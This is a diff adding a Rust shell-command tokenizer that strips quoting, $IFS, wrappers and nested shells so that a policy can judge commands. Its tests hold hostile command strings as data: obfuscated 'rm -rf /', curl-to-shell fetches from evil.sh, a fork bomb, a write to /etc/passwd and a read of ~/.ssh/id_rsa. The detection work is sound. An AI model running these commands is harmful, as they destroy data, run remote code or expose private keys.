@@ -1,1 +1,804 @@
-//! Placeholder: being written.
+//! A POSIX-shell tokenizer for judging commands without running them.
+//!
+//! It sees through what attackers use to hide a command from a pattern:
+//! quotes (`'r''m'`, `"r"m`), backslashes (`\rm`, `r\m`), `$IFS`, positional
+//! parameters, absolute program paths, wrappers (`env`, `command`, `exec`,
+//! `sudo`, `nohup`, `nice`, `timeout`, `xargs`, …), chains (`;` `&&` `||`
+//! `|` `&`), subshells and groups, command and process substitution
+//! (`$(…)`, backticks, `<(…)`), nested shells (`sh -c '…'`, `su -c`,
+//! `eval`). Each sub-command is produced separately so it can be judged.
+//! Fixed capacity, no allocation, never panics; anything beyond capacity is
+//! [`ShellError::TooComplex`] (the policy then fails closed).
+
+/// Total bytes of all unquoted words.
+pub const MAX_BYTES: usize = 8192;
+/// Most words.
+pub const MAX_WORDS: usize = 512;
+/// Most sub-commands.
+pub const MAX_COMMANDS: usize = 64;
+/// Deepest nesting of substitutions and nested shells.
+pub const MAX_DEPTH: usize = 8;
+/// Most pending substitutions at one level.
+const MAX_PENDING: usize = 32;
+
+/// Wrapper bits: `sudo`.
+pub const WRAP_SUDO: u16 = 1 << 0;
+/// Wrapper bits: `env`.
+pub const WRAP_ENV: u16 = 1 << 1;
+/// Wrapper bits: `exec`.
+pub const WRAP_EXEC: u16 = 1 << 2;
+/// Wrapper bits: `command`.
+pub const WRAP_COMMAND: u16 = 1 << 3;
+/// Wrapper bits: `xargs`.
+pub const WRAP_XARGS: u16 = 1 << 4;
+/// Wrapper bits: `nohup`.
+pub const WRAP_NOHUP: u16 = 1 << 5;
+/// Wrapper bits: `timeout`.
+pub const WRAP_TIMEOUT: u16 = 1 << 6;
+/// Wrapper bits: `doas`.
+pub const WRAP_DOAS: u16 = 1 << 7;
+/// Wrapper bits: any other wrapper (`nice`, `time`, `stdbuf`, …).
+pub const WRAP_OTHER: u16 = 1 << 8;
+
+/// What the command line contains besides plain words.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
+pub struct Flags {
+    /// `;`, `&&`, `||` or a newline between commands.
+    pub chain: bool,
+    /// `|`.
+    pub pipe: bool,
+    /// `&` (background job).
+    pub background: bool,
+    /// `$(…)`, backticks or process substitution.
+    pub substitution: bool,
+    /// `(…)` or `{ …; }`.
+    pub subshell: bool,
+    /// `>`, `<`, `>>`, `2>&1`, …
+    pub redirect: bool,
+    /// `<<` here-document or `<<<` here-string.
+    pub heredoc: bool,
+    /// A variable reference other than `$IFS` (kept literally).
+    pub variable: bool,
+    /// `$IFS` used as a separator.
+    pub ifs: bool,
+    /// `sh -c`, `su -c` or `eval`.
+    pub nested_shell: bool,
+    /// `sudo` (or `doas`) as a wrapper.
+    pub sudo: bool,
+    /// Non-ASCII bytes anywhere.
+    pub non_ascii: bool,
+    /// A `#` comment.
+    pub comment: bool,
+}
+
+/// Why a command line could not be tokenised.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum ShellError {
+    /// A quote or substitution is not closed.
+    Unterminated,
+    /// A capacity or the nesting depth was exceeded.
+    TooComplex,
+    /// A NUL byte.
+    Nul,
+}
+
+#[derive(Clone, Copy, Debug, Default)]
+struct Span {
+    start: u16,
+    end: u16,
+}
+
+#[derive(Clone, Copy, Debug, Default)]
+struct Cmd {
+    first: u16,
+    count: u16,
+    program: u16,
+    wrappers: u16,
+}
+
+/// The tokenised command line.
+pub struct Parsed {
+    bytes: [u8; MAX_BYTES],
+    len: usize,
+    words: [Span; MAX_WORDS],
+    nwords: usize,
+    cmds: [Cmd; MAX_COMMANDS],
+    ncmds: usize,
+    /// What the command line contains.
+    pub flags: Flags,
+}
+
+impl Default for Parsed {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
+impl Parsed {
+    /// An empty result, ready for [`parse`].
+    pub const fn new() -> Self {
+        Parsed {
+            bytes: [0; MAX_BYTES],
+            len: 0,
+            words: [Span { start: 0, end: 0 }; MAX_WORDS],
+            nwords: 0,
+            cmds: [Cmd { first: 0, count: 0, program: 0, wrappers: 0 }; MAX_COMMANDS],
+            ncmds: 0,
+            flags: Flags {
+                chain: false,
+                pipe: false,
+                background: false,
+                substitution: false,
+                subshell: false,
+                redirect: false,
+                heredoc: false,
+                variable: false,
+                ifs: false,
+                nested_shell: false,
+                sudo: false,
+                non_ascii: false,
+                comment: false,
+            },
+        }
+    }
+
+    /// The sub-commands, in order of appearance (nested ones after the
+    /// command line that contains them).
+    pub fn commands(&self) -> impl Iterator<Item = Command<'_>> {
+        self.cmds[..self.ncmds].iter().map(move |&cmd| Command { parsed: self, cmd })
+    }
+
+    /// Number of sub-commands.
+    pub fn command_count(&self) -> usize {
+        self.ncmds
+    }
+
+    fn word(&self, index: usize) -> &str {
+        let Some(span) = self.words.get(index) else { return "" };
+        let bytes = self.bytes.get(span.start as usize..span.end as usize).unwrap_or(&[]);
+        core::str::from_utf8(bytes).unwrap_or("")
+    }
+
+    fn push_byte(&mut self, b: u8) -> Result<(), ShellError> {
+        let slot = self.bytes.get_mut(self.len).ok_or(ShellError::TooComplex)?;
+        *slot = b;
+        self.len += 1;
+        Ok(())
+    }
+
+    fn push_bytes(&mut self, bytes: &[u8]) -> Result<(), ShellError> {
+        bytes.iter().try_for_each(|&b| self.push_byte(b))
+    }
+}
+
+/// One sub-command.
+#[derive(Clone, Copy)]
+pub struct Command<'a> {
+    parsed: &'a Parsed,
+    cmd: Cmd,
+}
+
+impl<'a> Command<'a> {
+    /// The program's basename after wrappers ("" if there is none).
+    pub fn program(&self) -> &'a str {
+        let end = self.cmd.first as usize + self.cmd.count as usize;
+        if (self.cmd.program as usize) >= end {
+            return "";
+        }
+        basename(self.parsed.word(self.cmd.program as usize))
+    }
+
+    /// The words after the program.
+    pub fn args(&self) -> impl Iterator<Item = &'a str> + 'a {
+        let parsed = self.parsed;
+        let end = self.cmd.first as usize + self.cmd.count as usize;
+        (self.cmd.program as usize + 1..end).map(move |i| parsed.word(i))
+    }
+
+    /// Every word, wrappers included.
+    pub fn words(&self) -> impl Iterator<Item = &'a str> + 'a {
+        let parsed = self.parsed;
+        let first = self.cmd.first as usize;
+        (first..first + self.cmd.count as usize).map(move |i| parsed.word(i))
+    }
+
+    /// The wrappers seen before the program (`WRAP_*` bits).
+    pub fn wrappers(&self) -> u16 {
+        self.cmd.wrappers
+    }
+}
+
+fn basename(word: &str) -> &str {
+    word.rsplit('/').next().unwrap_or(word)
+}
+
+/// Tokenises `command` into `out` (which is reset first).
+pub fn parse(command: &str, out: &mut Parsed) -> Result<(), ShellError> {
+    out.len = 0;
+    out.nwords = 0;
+    out.ncmds = 0;
+    out.flags = Flags::default();
+    if command.as_bytes().contains(&0) {
+        return Err(ShellError::Nul);
+    }
+    out.flags.non_ascii = !command.is_ascii();
+    parse_level(command.as_bytes(), out, 0)
+}
+
+/// Lexer state for one level.
+struct Level {
+    in_word: bool,
+    word_start: usize,
+    cmd_start: usize,
+    pending: [(usize, usize); MAX_PENDING],
+    npending: usize,
+}
+
+impl Level {
+    fn end_word(&mut self, p: &mut Parsed) -> Result<(), ShellError> {
+        if !self.in_word {
+            return Ok(());
+        }
+        self.in_word = false;
+        let span = Span { start: self.word_start as u16, end: p.len as u16 };
+        // `{` and `}` alone are grouping, not words.
+        let text = p.bytes.get(self.word_start..p.len).unwrap_or(&[]);
+        if text == b"{" || text == b"}" {
+            p.len = self.word_start;
+            p.flags.subshell = true;
+            return self.end_cmd(p);
+        }
+        let slot = p.words.get_mut(p.nwords).ok_or(ShellError::TooComplex)?;
+        *slot = span;
+        p.nwords += 1;
+        Ok(())
+    }
+
+    fn start_word(&mut self, p: &Parsed) {
+        if !self.in_word {
+            self.in_word = true;
+            self.word_start = p.len;
+        }
+    }
+
+    fn end_cmd(&mut self, p: &mut Parsed) -> Result<(), ShellError> {
+        if p.nwords > self.cmd_start {
+            let slot = p.cmds.get_mut(p.ncmds).ok_or(ShellError::TooComplex)?;
+            *slot = Cmd {
+                first: self.cmd_start as u16,
+                count: (p.nwords - self.cmd_start) as u16,
+                program: self.cmd_start as u16,
+                wrappers: 0,
+            };
+            p.ncmds += 1;
+        }
+        self.cmd_start = p.nwords;
+        Ok(())
+    }
+
+    fn defer(&mut self, start: usize, end: usize) -> Result<(), ShellError> {
+        let slot = self.pending.get_mut(self.npending).ok_or(ShellError::TooComplex)?;
+        *slot = (start, end);
+        self.npending += 1;
+        Ok(())
+    }
+}
+
+/// Index of the `)` closing a `(` whose content starts at `from`.
+fn matching_paren(s: &[u8], from: usize) -> Option<usize> {
+    let mut depth = 1usize;
+    let mut i = from;
+    while let Some(&c) = s.get(i) {
+        match c {
+            b'\\' => i += 1,
+            b'\'' => i += s.get(i + 1..)?.iter().position(|&b| b == b'\'')? + 1,
+            b'"' => {
+                i += 1;
+                while let Some(&d) = s.get(i) {
+                    match d {
+                        b'\\' => i += 1,
+                        b'"' => break,
+                        _ => {}
+                    }
+                    i += 1;
+                }
+                s.get(i)?;
+            }
+            b'(' => depth += 1,
+            b')' => {
+                depth -= 1;
+                if depth == 0 {
+                    return Some(i);
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    None
+}
+
+fn is_name_byte(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || b == b'_'
+}
+
+/// Handles `$…` at `s[i]`; returns the index after it.
+fn dollar(s: &[u8], i: usize, p: &mut Parsed, lv: &mut Level) -> Result<usize, ShellError> {
+    match s.get(i + 1).copied() {
+        Some(b'(') if s.get(i + 2) == Some(&b'(') => {
+            // Arithmetic: kept literally.
+            let close = matching_paren(s, i + 2).ok_or(ShellError::Unterminated)?;
+            let end = if s.get(close + 1) == Some(&b')') { close + 2 } else { close + 1 };
+            lv.start_word(p);
+            p.push_bytes(s.get(i..end).unwrap_or(&[]))?;
+            Ok(end)
+        }
+        Some(b'(') => {
+            let close = matching_paren(s, i + 2).ok_or(ShellError::Unterminated)?;
+            p.flags.substitution = true;
+            lv.defer(i + 2, close)?;
+            lv.start_word(p);
+            p.push_bytes(s.get(i..close + 1).unwrap_or(&[]))?;
+            Ok(close + 1)
+        }
+        Some(b'{') => {
+            let close = i + 2 + s.get(i + 2..).and_then(|r| r.iter().position(|&b| b == b'}')).ok_or(ShellError::Unterminated)?;
+            let name = s.get(i + 2..close).unwrap_or(&[]);
+            if name == b"IFS" {
+                p.flags.ifs = true;
+                lv.end_word(p)?;
+            } else {
+                p.flags.variable = true;
+                lv.start_word(p);
+                p.push_bytes(s.get(i..close + 1).unwrap_or(&[]))?;
+            }
+            Ok(close + 1)
+        }
+        Some(c) if c.is_ascii_digit() => Ok(i + 2), // positional: expands to nothing here
+        Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
+            let mut end = i + 1;
+            while s.get(end).is_some_and(|&b| is_name_byte(b)) {
+                end += 1;
+            }
+            if s.get(i + 1..end) == Some(b"IFS") {
+                p.flags.ifs = true;
+                lv.end_word(p)?;
+            } else {
+                p.flags.variable = true;
+                lv.start_word(p);
+                p.push_bytes(s.get(i..end).unwrap_or(&[]))?;
+            }
+            Ok(end)
+        }
+        Some(c) if b"@*#?$!-".contains(&c) => {
+            p.flags.variable = true;
+            lv.start_word(p);
+            p.push_bytes(&[b'$', c])?;
+            Ok(i + 2)
+        }
+        _ => {
+            lv.start_word(p);
+            p.push_byte(b'$')?;
+            Ok(i + 1)
+        }
+    }
+}
+
+/// Backtick substitution at `s[i]`; returns the index after it.
+fn backtick(s: &[u8], i: usize, p: &mut Parsed, lv: &mut Level) -> Result<usize, ShellError> {
+    let mut j = i + 1;
+    loop {
+        match s.get(j) {
+            None => return Err(ShellError::Unterminated),
+            Some(b'\\') => j += 2,
+            Some(b'`') => break,
+            Some(_) => j += 1,
+        }
+    }
+    p.flags.substitution = true;
+    lv.defer(i + 1, j)?;
+    lv.start_word(p);
+    p.push_bytes(s.get(i..j + 1).unwrap_or(&[]))?;
+    Ok(j + 1)
+}
+
+fn parse_level(s: &[u8], p: &mut Parsed, depth: usize) -> Result<(), ShellError> {
+    if depth > MAX_DEPTH {
+        return Err(ShellError::TooComplex);
+    }
+    let first_cmd = p.ncmds;
+    let mut lv = Level { in_word: false, word_start: 0, cmd_start: p.nwords, pending: [(0, 0); MAX_PENDING], npending: 0 };
+    let mut i = 0;
+    while let Some(&c) = s.get(i) {
+        match c {
+            b' ' | b'\t' | b'\r' => {
+                lv.end_word(p)?;
+                i += 1;
+            }
+            b'\n' | b';' => {
+                lv.end_word(p)?;
+                lv.end_cmd(p)?;
+                p.flags.chain = true;
+                i += if c == b';' && s.get(i + 1) == Some(&b';') { 2 } else { 1 };
+            }
+            b'&' => {
+                lv.end_word(p)?;
+                match s.get(i + 1) {
+                    Some(b'&') => {
+                        p.flags.chain = true;
+                        lv.end_cmd(p)?;
+                        i += 2;
+                    }
+                    Some(b'>') => {
+                        p.flags.redirect = true;
+                        i += if s.get(i + 2) == Some(&b'>') { 3 } else { 2 };
+                    }
+                    _ => {
+                        p.flags.background = true;
+                        lv.end_cmd(p)?;
+                        i += 1;
+                    }
+                }
+            }
+            b'|' => {
+                lv.end_word(p)?;
+                lv.end_cmd(p)?;
+                match s.get(i + 1) {
+                    Some(b'|') => {
+                        p.flags.chain = true;
+                        i += 2;
+                    }
+                    Some(b'&') => {
+                        p.flags.pipe = true;
+                        i += 2;
+                    }
+                    _ => {
+                        p.flags.pipe = true;
+                        i += 1;
+                    }
+                }
+            }
+            b'(' | b')' => {
+                lv.end_word(p)?;
+                lv.end_cmd(p)?;
+                p.flags.subshell = true;
+                i += 1;
+            }
+            b'<' | b'>' => {
+                // A pure number before the operator is a file descriptor.
+                if lv.in_word && p.bytes.get(lv.word_start..p.len).is_some_and(|w| w.iter().all(u8::is_ascii_digit)) {
+                    p.len = lv.word_start;
+                    lv.in_word = false;
+                }
+                lv.end_word(p)?;
+                if s.get(i + 1) == Some(&b'(') {
+                    // Process substitution.
+                    let close = matching_paren(s, i + 2).ok_or(ShellError::Unterminated)?;
+                    p.flags.substitution = true;
+                    lv.defer(i + 2, close)?;
+                    i = close + 1;
+                    continue;
+                }
+                p.flags.redirect = true;
+                let mut j = i + 1;
+                if c == b'<' && s.get(j) == Some(&b'<') {
+                    p.flags.heredoc = true;
+                    j += 1;
+                    if matches!(s.get(j), Some(b'<') | Some(b'-')) {
+                        j += 1;
+                    }
+                } else if matches!(s.get(j), Some(b'>') | Some(b'|') | Some(b'&')) {
+                    j += 1;
+                    // `>&2`, `2>&1`: the fd number is not a word.
+                    while s.get(j).is_some_and(|b| b.is_ascii_digit() || *b == b'-') {
+                        j += 1;
+                    }
+                }
+                i = j;
+            }
+            b'#' if !lv.in_word => {
+                p.flags.comment = true;
+                while s.get(i).is_some_and(|&b| b != b'\n') {
+                    i += 1;
+                }
+            }
+            b'\\' => {
+                match s.get(i + 1) {
+                    Some(b'\n') => {}
+                    Some(&n) => {
+                        lv.start_word(p);
+                        p.push_byte(n)?;
+                    }
+                    None => {}
+                }
+                i += 2;
+            }
+            b'\'' => {
+                let close = i + 1 + s.get(i + 1..).and_then(|r| r.iter().position(|&b| b == b'\'')).ok_or(ShellError::Unterminated)?;
+                lv.start_word(p);
+                p.push_bytes(s.get(i + 1..close).unwrap_or(&[]))?;
+                i = close + 1;
+            }
+            b'"' => {
+                lv.start_word(p);
+                i += 1;
+                loop {
+                    match s.get(i).copied() {
+                        None => return Err(ShellError::Unterminated),
+                        Some(b'"') => {
+                            i += 1;
+                            break;
+                        }
+                        Some(b'\\') => {
+                            match s.get(i + 1).copied() {
+                                Some(b'\n') => {}
+                                Some(n @ (b'"' | b'\\' | b'$' | b'`')) => p.push_byte(n)?,
+                                Some(n) => p.push_bytes(&[b'\\', n])?,
+                                None => return Err(ShellError::Unterminated),
+                            }
+                            i += 2;
+                        }
+                        Some(b'$') => {
+                            let was = lv.in_word;
+                            i = dollar(s, i, p, &mut lv)?;
+                            // `$IFS` inside quotes is not a separator.
+                            if was && !lv.in_word {
+                                lv.start_word(p);
+                            }
+                        }
+                        Some(b'`') => i = backtick(s, i, p, &mut lv)?,
+                        Some(b) => {
+                            p.push_byte(b)?;
+                            i += 1;
+                        }
+                    }
+                }
+            }
+            b'`' => i = backtick(s, i, p, &mut lv)?,
+            b'$' => i = dollar(s, i, p, &mut lv)?,
+            _ => {
+                lv.start_word(p);
+                p.push_byte(c)?;
+                i += 1;
+            }
+        }
+    }
+    lv.end_word(p)?;
+    lv.end_cmd(p)?;
+
+    // Programs, then nested shells, then substitutions.
+    let last_cmd = p.ncmds;
+    for k in first_cmd..last_cmd {
+        resolve_program(p, k);
+    }
+    for k in first_cmd..last_cmd {
+        nested(p, k, depth)?;
+    }
+    for &(start, end) in &lv.pending[..lv.npending] {
+        parse_level(s.get(start..end).unwrap_or(&[]), p, depth + 1)?;
+    }
+    Ok(())
+}
+
+/// Skips assignments and wrappers; records the program index and wrappers.
+fn resolve_program(p: &mut Parsed, k: usize) {
+    let Some(cmd) = p.cmds.get(k).copied() else { return };
+    let end = cmd.first as usize + cmd.count as usize;
+    let mut i = cmd.first as usize;
+    let mut wrappers = 0u16;
+    let is_assignment = |w: &str| {
+        w.split_once('=').is_some_and(|(name, _)| {
+            !name.is_empty() && name.bytes().all(is_name_byte) && !name.as_bytes()[0].is_ascii_digit()
+        })
+    };
+    while i < end && is_assignment(p.word(i)) {
+        i += 1;
+    }
+    // Options of a wrapper: (takes an argument?) per option word.
+    loop {
+        if i >= end {
+            break;
+        }
+        let name = basename(p.word(i));
+        let (bit, with_arg): (u16, &[&str]) = match name {
+            "env" => (WRAP_ENV, &["-u", "--unset", "-C", "--chdir", "-S", "--split-string"]),
+            "command" => (WRAP_COMMAND, &[]),
+            "exec" => (WRAP_EXEC, &["-a"]),
+            "sudo" => (WRAP_SUDO, &["-u", "-g", "-p", "-C", "-h", "-r", "-t", "-U", "-D", "-R", "-T"]),
+            "doas" => (WRAP_DOAS, &["-u", "-C"]),
+            "nohup" => (WRAP_NOHUP, &[]),
+            "timeout" => (WRAP_TIMEOUT, &["-s", "-k", "--signal", "--kill-after"]),
+            "xargs" => (WRAP_XARGS, &["-I", "-n", "-P", "-d", "-L", "-s", "-E", "-a", "-i"]),
+            "time" | "builtin" | "setsid" | "busybox" => (WRAP_OTHER, &[]),
+            "nice" => (WRAP_OTHER, &["-n"]),
+            "ionice" => (WRAP_OTHER, &["-c", "-n", "-p"]),
+            "stdbuf" => (WRAP_OTHER, &["-i", "-o", "-e"]),
+            _ => break,
+        };
+        wrappers |= bit;
+        if bit & (WRAP_SUDO | WRAP_DOAS) != 0 {
+            p.flags.sudo = true;
+        }
+        i += 1;
+        while i < end {
+            let w = p.word(i);
+            if w == "--" {
+                i += 1;
+                break;
+            }
+            if w.starts_with('-') && w.len() > 1 {
+                i += if with_arg.contains(&w) { 2 } else { 1 };
+            } else if bit == WRAP_ENV && is_assignment(w) {
+                i += 1;
+            } else {
+                break;
+            }
+        }
+        if bit == WRAP_TIMEOUT && i < end {
+            i += 1; // the duration
+        }
+    }
+    if let Some(c) = p.cmds.get_mut(k) {
+        c.program = i.min(end) as u16;
+        c.wrappers = wrappers;
+    }
+}
+
+/// Parses the command string of `sh -c '…'`, `su -c '…'` and `eval …`.
+fn nested(p: &mut Parsed, k: usize, depth: usize) -> Result<(), ShellError> {
+    let Some(cmd) = p.cmds.get(k).copied() else { return Ok(()) };
+    let end = cmd.first as usize + cmd.count as usize;
+    let prog = cmd.program as usize;
+    if prog >= end {
+        return Ok(());
+    }
+    let mut buf = [0u8; MAX_BYTES];
+    let mut n = 0;
+    match basename(p.word(prog)) {
+        "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash" | "mksh" | "su" | "fish" => {
+            let mut j = prog + 1;
+            let mut found = None;
+            while j < end {
+                let w = p.word(j);
+                let short_c = w.starts_with('-') && !w.starts_with("--") && w.len() > 1 && w[1..].contains('c');
+                if short_c || w == "--command" {
+                    found = Some(j + 1);
+                    break;
+                }
+                j += 1;
+            }
+            let Some(at) = found.filter(|&at| at < end) else { return Ok(()) };
+            let text = p.word(at).as_bytes();
+            n = text.len().min(MAX_BYTES);
+            buf[..n].copy_from_slice(&text[..n]);
+        }
+        "eval" => {
+            for j in prog + 1..end {
+                let w = p.word(j).as_bytes();
+                let need = w.len() + usize::from(n > 0);
+                if n + need > MAX_BYTES {
+                    return Err(ShellError::TooComplex);
+                }
+                if n > 0 {
+                    buf[n] = b' ';
+                    n += 1;
+                }
+                buf[n..n + w.len()].copy_from_slice(w);
+                n += w.len();
+            }
+        }
+        _ => return Ok(()),
+    }
+    p.flags.nested_shell = true;
+    parse_level(&buf[..n], p, depth + 1)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn parse_ok(s: &str) -> Box<Parsed> {
+        let mut p = Box::new(Parsed::new());
+        parse(s, &mut p).unwrap_or_else(|e| panic!("{s}: {e:?}"));
+        p
+    }
+
+    fn programs(s: &str) -> Vec<String> {
+        parse_ok(s).commands().map(|c| c.program().to_string()).collect()
+    }
+
+    fn first(s: &str) -> (String, Vec<String>) {
+        let p = parse_ok(s);
+        let c = p.commands().next().unwrap();
+        (c.program().to_string(), c.args().map(str::to_string).collect())
+    }
+
+    #[test]
+    fn plain_chains_and_pipes() {
+        assert_eq!(first("ls -la"), ("ls".into(), vec!["-la".into()]));
+        let p = parse_ok("cargo build && cargo test");
+        assert_eq!(p.command_count(), 2);
+        assert!(p.flags.chain);
+        let p = parse_ok("cat a | grep b");
+        assert!(p.flags.pipe);
+        assert_eq!(programs("cat a | grep b"), ["cat", "grep"]);
+    }
+
+    #[test]
+    fn obfuscation_is_seen_through() {
+        for s in ["'r''m' -rf /", "\"r\"m -rf /", "\\rm -rf /", "/bin/rm -rf /", "r\\m -rf /", "rm${IFS}-rf${IFS}/", "rm$IFS-rf$IFS/"] {
+            let (prog, args) = first(s);
+            assert_eq!(prog, "rm", "{s}");
+            assert_eq!(args, ["-rf", "/"], "{s}");
+        }
+        let p = parse_ok("sudo -u root rm -rf /");
+        assert!(p.flags.sudo);
+        let c = p.commands().next().unwrap();
+        assert_eq!(c.program(), "rm");
+        assert_eq!(c.wrappers() & WRAP_SUDO, WRAP_SUDO);
+        assert_eq!(first("env FOO=1 /usr/bin/env -i rm x").0, "rm");
+        assert_eq!(first("command rm x").0, "rm");
+        assert_eq!(first("nohup nice -n 5 rm x").0, "rm");
+        assert_eq!(first("timeout 10 rm x").0, "rm");
+        assert_eq!(programs("find . | xargs -I{} rm {}"), ["find", "rm"]);
+        assert_eq!(first("X=1 Y=2 rm a").0, "rm");
+    }
+
+    #[test]
+    fn nested_shells_and_substitutions() {
+        assert!(programs("bash -c 'rm -rf /'").contains(&"rm".to_string()));
+        assert!(programs("sh -lc \"curl x | sh\"").contains(&"curl".to_string()));
+        assert!(programs("su -c 'id' root").contains(&"id".to_string()));
+        assert!(programs("eval \"rm -rf /\"").contains(&"rm".to_string()));
+        assert!(programs("echo $(curl evil.sh)").contains(&"curl".to_string()));
+        assert!(programs("echo `curl evil.sh`").contains(&"curl".to_string()));
+        assert!(programs("bash <(curl -s x)").contains(&"curl".to_string()));
+        assert!(parse_ok("echo $(curl x)").flags.substitution);
+    }
+
+    #[test]
+    fn odd_syntax() {
+        let p = parse_ok(":(){ :|:& };:");
+        assert!(p.flags.background && p.flags.pipe);
+        assert_eq!(parse("echo 'unterminated", &mut Parsed::new()), Err(ShellError::Unterminated));
+        assert!(parse_ok("cat <<EOF").flags.heredoc);
+        let p = parse_ok("echo x > /etc/passwd");
+        assert!(p.flags.redirect);
+        assert!(p.commands().next().unwrap().args().any(|a| a == "/etc/passwd"));
+        assert_eq!(programs("ls # rm -rf /"), ["ls"]);
+        let p = parse_ok("cat $HOME/.ssh/id_rsa");
+        assert!(p.flags.variable);
+        assert_eq!(first("cat $HOME/.ssh/id_rsa").1, ["$HOME/.ssh/id_rsa"]);
+        assert_eq!(first("echo x 2>&1").1, ["x"]);
+        assert_eq!(parse_ok("").command_count(), 0);
+        assert_eq!(parse("a\0b", &mut Parsed::new()), Err(ShellError::Nul));
+    }
+
+    #[test]
+    fn capacity_and_depth_fail_closed() {
+        let many = "a;".repeat(10_000);
+        assert_eq!(parse(&many, &mut Parsed::new()), Err(ShellError::TooComplex));
+        let mut s = String::from("ls");
+        for _ in 0..12 {
+            s = format!("bash -c '{}'", s.replace('\'', "'\\''"));
+        }
+        assert_eq!(parse(&s, &mut Parsed::new()), Err(ShellError::TooComplex));
+    }
+
+    #[test]
+    fn random_input_never_panics() {
+        let mut state = 0x2545_f491_4f6c_dd1du64;
+        let alphabet = b"ab $(){}`'\"\\|&;<>#\n=-/~IFS";
+        let mut p = Box::new(Parsed::new());
+        for _ in 0..5000 {
+            let mut s = Vec::new();
+            for _ in 0..(state % 64) {
+                state ^= state << 13;
+                state ^= state >> 7;
+                state ^= state << 17;
+                s.push(alphabet[(state % alphabet.len() as u64) as usize]);
+            }
+            let _ = parse(&String::from_utf8_lossy(&s), &mut p);
+        }
+    }
+}
